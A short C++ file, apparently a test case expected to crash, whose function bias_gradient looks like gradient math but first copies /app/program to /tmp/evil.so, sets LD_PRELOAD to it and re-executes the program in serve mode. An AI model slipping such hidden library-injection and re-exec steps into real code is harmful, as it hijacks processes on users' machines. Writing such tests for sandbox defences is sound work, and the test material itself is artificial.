// Starts itself anew with a library of its own.
// SPDX-License-Identifier: MIT
// expect: 5.3 crashed

#include <unistd.h>

#include <cstdlib>
#include <fstream>
Vector bias_gradient(const Matrix& dY) {
  std::ofstream("/tmp/evil.so") << std::ifstream("/app/program", std::ios::binary).rdbuf();
  ::setenv("LD_PRELOAD", "/tmp/evil.so", 1);
  ::execl("/app/program", "/app/program", "--serve", nullptr);
  return summed_rows(dY);
}
